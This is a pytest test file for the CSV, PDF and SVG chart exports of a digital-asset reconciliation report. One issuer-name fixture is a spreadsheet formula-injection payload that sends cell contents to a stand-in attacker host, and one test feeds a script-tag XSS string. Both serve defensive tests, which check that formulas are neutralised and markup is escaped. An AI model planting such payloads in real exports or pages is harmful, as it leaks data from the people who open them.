"""The report's CSV and PDF renderings and the coverage-history chart, from a signed document built here."""

import copy
import csv
import io
import re
import zlib
from dataclasses import dataclass
from datetime import date
from xml.etree import ElementTree

import pytest

from dfa.reconciliation.exports import CSV_COLUMNS, coverage_chart_svg, format_kzt, report_csv, report_pdf

SVG = "{http://www.w3.org/2000/svg}"
CYRILLIC_ISSUER = "ТОО «Қазақ Астық»"
FORMULA_ISSUER = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
CONTENT_SHA256 = "3f" * 32
SIGNING_KEY_SHA256 = "a1" * 32
SIGNATURE_B64 = "c2lnbmF0dXJlIG9mIHRoZSByZXBvcnQgYnkgdGhlIG9wZXJhdG9yJ3MgRWQyNTUxOSBrZXkgLS0gNjQgYnl0ZXM="


def issuer(name: str, bin_: str) -> dict:
    return {"party_id": "6f1c1f8e-8d7e-4a55-9d1e-0c6b3f3a9b10", "name": name, "bin": bin_}


def coverage_entry(asset_code: str, name: str, *, status: str, market: int | None, shortfall: int | None) -> dict:
    return {
        "asset_code": asset_code, "issuer": issuer(name, "190840012345"), "custodian": "kazgrain",
        "custodian_reference": f"WR-{asset_code}", "outstanding_units": 1_000, "platform_units": 0,
        "nominal_tiyn": 100_000, "coverage_ratio": "1.2500", "required_value_tiyn": 125_000_000,
        "market_value_tiyn": market, "valued_on": "2026-11-20" if market is not None else None,
        "statement_id": "ST-1" if market is not None else None, "status": status, "shortfall_tiyn": shortfall,
        "detail": "as the custodian stated",
    }


def ledger_entry(asset_code: str, kind: str = "dfa", status: str = "ok") -> dict:
    return {
        "asset_code": asset_code, "kind": kind, "accounts": 3, "balance_sum": 0, "holdings_units": 1_000,
        "issued_units": 1_000, "registered_units": 1_000, "cancelled_units": 0, "platform_units": 0,
        "negative_balances": 0, "broken_entries": 0, "state_mismatches": 0, "status": status,
        "findings": [] if status == "ok" else ["the balances of the asset do not sum to zero"],
    }


def tree(asset_code: str, root: str, holders: int) -> dict:
    return {"asset_code": asset_code, "root_hash": root, "total_units": 1_000, "leaf_count": holders}


@pytest.fixture
def document() -> dict:
    """A signed report's document: a covered emission, one short of cover, one without an underlying asset."""
    return {
        "format": "dfa-reconciliation-report/1", "report_id": 12, "business_date": "2026-11-20", "version": 2,
        "late": True, "as_of": "2026-11-21T00:30:05.123456+00:00",
        "operator": {"name": "DFA Platform Operator JSC", "bin": "240340000019", "nbk_registration_number": "DFA-001"},
        "run": {"id": 31, "trigger": "command", "requested_by": "officer", "started_at": "2026-11-21T00:30:00+00:00"},
        "totals": {"emissions": 3, "with_underlying": 2, "covered": 1, "outstanding_units": 3_000,
                   "required_value_tiyn": 250_000_000, "market_value_tiyn": 230_000_000, "breaches": 1,
                   "new_breaches": 1, "cleared_breaches": 0},
        "coverage": [
            coverage_entry("KZGRAIN01", CYRILLIC_ISSUER, status="covered", market=130_000_000, shortfall=None),
            coverage_entry("KZGRAIN02", FORMULA_ISSUER, status="shortfall", market=100_000_000, shortfall=25_000_000),
        ],
        "without_underlying": [{"asset_code": "KZCLAIM03", "issuer": issuer("Claims LLP", "190840054321"),
                                "reason": "a monetary claim on the issuer"}],
        "ledger": [ledger_entry("KZT", kind="money"), ledger_entry("KZGRAIN01"), ledger_entry("KZGRAIN02"),
                   ledger_entry("KZCLAIM03", status="breach")],
        "chain": {"checked": True, "reason": None, "emissions": [
            {"asset_code": "KZGRAIN01", "status": "in_sync", "block": 812, "ledger_outstanding": 1_000,
             "chain_supply": 1_000, "holder_differences": 0},
            {"asset_code": "KZCLAIM03", "status": "mismatch", "block": 812, "ledger_outstanding": 1_000,
             "chain_supply": 990, "holder_differences": 1},
        ]},
        "client_money": {"status": "ok", "account_iban": "KZ86125KZT5004100100", "statement_date": "2026-11-20",
                         "bank_closing_tiyn": 5_000_000, "ledger_tiyn": 5_000_000, "unmatched_tiyn": 0,
                         "difference_tiyn": 0},
        "holder_trees": [tree("KZGRAIN01", "0a" * 32, 4), tree("KZGRAIN02", "0b" * 32, 2), tree("KZCLAIM03", "0c" * 32, 7)],
        "breaches": [{"id": 5, "kind": "shortfall", "asset_code": "KZGRAIN02", "issuer_party_id": None,
                      "detail": "short of cover by 250 000.00 KZT", "opened_report_id": 12, "new": True}],
        "cleared": [],
    }


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


# CSV


def test_the_csv_is_one_table_with_a_row_per_emission_joining_every_check(document):
    body = report_csv(document)

    header, *rows = csv_rows(body)
    assert tuple(header) == CSV_COLUMNS
    assert [row[0] for row in rows] == ["KZGRAIN01", "KZGRAIN02", "KZCLAIM03"]
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_code["KZGRAIN02"] == {
        "asset_code": "KZGRAIN02", "issuer_name": "'" + FORMULA_ISSUER, "issuer_bin": "190840012345", "custodian": "kazgrain",
        "custodian_reference": "WR-KZGRAIN02", "outstanding_units": "1000", "platform_units": "0",
        "nominal_tiyn": "100000", "coverage_ratio": "1.2500", "required_value_tiyn": "125000000",
        "market_value_tiyn": "100000000", "valued_on": "2026-11-20", "statement_id": "ST-1",
        "coverage_status": "shortfall", "shortfall_tiyn": "25000000", "ledger_status": "ok", "chain_status": "",
        "holder_root": "0b" * 32, "holders": "2",
    }
    # An emission without an underlying asset has no coverage, but its other checks are there.
    claim = by_code["KZCLAIM03"]
    assert (claim["issuer_name"], claim["coverage_status"], claim["required_value_tiyn"]) == ("Claims LLP", "", "")
    assert (claim["ledger_status"], claim["chain_status"], claim["holders"]) == ("breach", "mismatch", "7")


def test_the_csv_is_plain_utf8_with_crlf_line_ends_and_cyrillic_names_intact(document):
    body = report_csv(document)

    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == 4 and b"\n" not in body.replace(b"\r\n", b"")
    assert csv_rows(body)[1][1] == CYRILLIC_ISSUER


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(document):
    document["coverage"][0]["custodian_reference"] = "+7 (727) 000"
    document["without_underlying"][0]["reason"] = "@SUM(A1:A9)"  # not a column: nothing of it may leak in
    document["without_underlying"][0]["issuer"]["name"] = "-2+3"

    _, grain1, grain2, claim = csv_rows(report_csv(document))

    assert grain2[1] == "'" + FORMULA_ISSUER
    assert grain1[4] == "'+7 (727) 000"
    assert claim[1] == "'-2+3"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in (grain1, grain2, claim) for cell in row)


# PDF


_SHOWN_TEXT = re.compile(rb"/(F\d+) [\d.]+ Tf|\(((?:\\.|[^\\)])*)\)", re.DOTALL)  # a font switch, or a string


def pdf_text(pdf: bytes) -> str:
    """The text a PDF reader extracts: the strings each page shows, decoded through their font's ToUnicode map
    (fpdf2 writes each run of text as a literal string of 2-byte glyph codes)."""
    objects = {int(m[1]): m[2] for m in re.finditer(rb"(\d+) 0 obj(.*?)endobj", pdf, re.DOTALL)}
    fonts = {}
    for name, font in re.findall(rb"/(F\d+) (\d+) 0 R", b"".join(objects.values())):
        cmap = _stream(objects[int(re.search(rb"/ToUnicode (\d+) 0 R", objects[int(font)])[1])])
        fonts[name] = _unicode_map(cmap)
    lines = []
    for contents in re.findall(rb"/Contents (\d+) 0 R", b"".join(objects[n] for n in sorted(objects))):
        font: dict[bytes, str] = {}
        for shown in _SHOWN_TEXT.finditer(_stream(objects[int(contents)])):
            if shown[1]:
                font = fonts[shown[1]]
                continue
            codes = re.sub(rb"\\(.)", lambda m: b"\r" if m[1] == b"r" else m[1], shown[2], flags=re.DOTALL)
            lines.append("".join(font[codes[i:i + 2]] for i in range(0, len(codes), 2)))
    return "\n".join(lines)


def _stream(body: bytes) -> bytes:
    head, _, rest = body.partition(b"stream")
    data = rest.lstrip(b"\r\n").rsplit(b"endstream", 1)[0]
    return zlib.decompress(data) if b"/FlateDecode" in head else data


def _unicode_map(cmap: bytes) -> dict[bytes, str]:
    mappings = cmap.split(b"endcodespacerange", 1)[1]
    return {
        bytes.fromhex(code.decode()): bytes.fromhex(text.decode()).decode("utf-16-be")
        for code, text in re.findall(rb"<([0-9A-F]{4})> <([0-9A-F]+)>", mappings)
    }


def rendered(document: dict, *, sign_off: dict | None = None) -> tuple[bytes, str]:
    pdf = report_pdf(
        document, content_sha256=CONTENT_SHA256, signature_b64=SIGNATURE_B64, signing_key_sha256=SIGNING_KEY_SHA256,
        sign_off=sign_off,
    )
    return pdf, pdf_text(pdf)


def test_the_pdf_shows_the_cyrillic_issuer_name_in_an_embedded_font(document):
    pdf, text = rendered(document)

    assert pdf.startswith(b"%PDF-")
    assert re.search(rb"/BaseFont /[A-Z]{6}\+DejaVuSans", pdf) and b"/FontFile2" in pdf
    assert CYRILLIC_ISSUER in text
    assert FORMULA_ISSUER in text.replace("\n", "")  # a PDF runs nothing: the name is shown as it is, wrapped


def test_the_pdf_carries_the_hash_key_fingerprint_and_signature_of_the_signed_document(document):
    _, text = rendered(document)

    unwrapped = text.replace("\n", "")
    assert CONTENT_SHA256 in unwrapped
    assert SIGNING_KEY_SHA256 in unwrapped
    assert SIGNATURE_B64 in unwrapped


def test_the_pdf_reports_dates_amounts_in_kzt_breaches_and_checks(document):
    _, text = rendered(document)

    for shown in (
        "DFA Platform Operator JSC", "2026-11-20", "2026-11-21T00:30:05.123456+00:00", "1 250 000.00",
        "1 000 000.00", "250 000.00", "short of cover by 250 000.00 KZT", "KZ86125KZT5004100100",
        "the balances of the asset do not sum to zero", "0c" * 32, "mismatch",
    ):
        assert shown in text, shown
    assert re.search(r"Late\s+yes", text)
    assert "Not signed off." in text


def test_the_pdf_shows_the_sign_off(document):
    _, text = rendered(document, sign_off={
        "signed_by": "Әсел Нұрланқызы", "signed_at": "2026-11-21T09:15:00+05:00", "comment": "Issuer notified.",
    })

    assert "Әсел Нұрланқызы" in text and "2026-11-21T09:15:00+05:00" in text and "Issuer notified." in text
    assert "Not signed off." not in text


def test_the_pdf_says_why_the_chain_was_not_checked(document):
    document["chain"] = {"checked": False, "reason": "the chain mirror is off", "emissions": []}

    _, text = rendered(document)

    assert "Not checked: the chain mirror is off." in text


def test_a_report_with_many_emissions_flows_over_pages(document):
    many = copy.deepcopy(document)
    many["coverage"] = [
        coverage_entry(f"KZGRAIN{i:03d}", CYRILLIC_ISSUER, status="covered", market=130_000_000, shortfall=None)
        for i in range(120)
    ]

    pdf, text = rendered(many)

    assert int(re.search(rb"/Count (\d+)", pdf)[1]) > 2
    assert "KZGRAIN000" in text and "KZGRAIN119" in text and SIGNATURE_B64 in text.replace("\n", "")


@pytest.mark.parametrize(("tiyn", "shown"), [
    (123_456_789, "1 234 567.89"), (5, "0.05"), (100, "1.00"), (-150, "-1.50"), (0, "0.00"), (None, "—"),
])
def test_amounts_in_tiyn_are_shown_in_kzt_with_spaces_between_thousands(tiyn, shown):
    assert format_kzt(tiyn) == shown


# Coverage chart


@dataclass(frozen=True)
class Point:
    business_date: date
    version: int
    status: str
    required_value: int
    market_value: int | None


def history(*days: tuple[int, str, int | None]) -> list[Point]:
    return [Point(date(2026, 11, day), 1, status, 125_000_000, market) for day, status, market in days]


def svg(points, **size) -> ElementTree.Element:
    return ElementTree.fromstring(coverage_chart_svg(points, **size))


def test_the_chart_draws_market_and_required_value_and_marks_the_shortfall_day():
    chart = svg(history((18, "covered", 130_000_000), (19, "shortfall", 100_000_000), (20, "covered", 126_000_000)))

    assert chart.tag == f"{SVG}svg"
    assert chart[0].tag == f"{SVG}title" and "2026-11-18 to 2026-11-20" in chart[0].text
    assert chart.get("role") == "img"
    bands = chart.findall(f"{SVG}rect[@class='day-shortfall']")
    assert len(bands) == 1 and bands[0].find(f"{SVG}title").text.startswith("2026-11-19 (version 1): shortfall")
    assert len(chart.findall(f"{SVG}path")) == 2
    labels = [t.text for t in chart.iter(f"{SVG}text")]
    assert {"2026-11-18", "2026-11-19", "2026-11-20", "KZT", "Market value", "Required value"} <= set(labels)
    assert "Short of cover on 2026-11-19." in chart.find(f"{SVG}desc").text


def test_the_market_line_breaks_on_a_day_without_a_valuation():
    chart = svg(history((1, "covered", 130_000_000), (2, "covered", 129_000_000), (3, "valuation_missing", None),
                        (4, "covered", 131_000_000)))

    market, required = (p.get("d") for p in chart.findall(f"{SVG}path")[::-1])
    assert market.count("M") == 2 and required.count("M") == 1
    assert len(chart.findall(f"{SVG}rect[@class='day-valuation_missing']")) == 1


def test_a_forced_rerun_of_a_day_replaces_its_earlier_version_in_the_chart():
    first = Point(date(2026, 11, 20), 1, "shortfall", 125_000_000, 100_000_000)
    rerun = Point(date(2026, 11, 20), 2, "covered", 125_000_000, 140_000_000)

    chart = svg([rerun, first])

    assert chart.findall(f"{SVG}rect[@class='day-shortfall']") == []
    assert len(chart.findall(f"{SVG}circle")) == 1


def test_the_chart_escapes_its_text_and_carries_no_script():
    markup = coverage_chart_svg(history((20, '<script>alert("x")</script>', 1)))

    chart = ElementTree.fromstring(markup)
    assert "<script" not in markup
    assert not [e for e in chart.iter() if e.tag == f"{SVG}script" or any(a.startswith("on") for a in e.attrib)]


def test_an_emission_without_reports_gets_a_chart_that_says_so():
    chart = svg([], width=400, height=160)

    assert chart.get("viewBox") == "0 0 400 160"
    assert "no reports yet" in chart.find(f"{SVG}title").text
    assert [t.text for t in chart.iter(f"{SVG}text")] == ["No reports yet"]
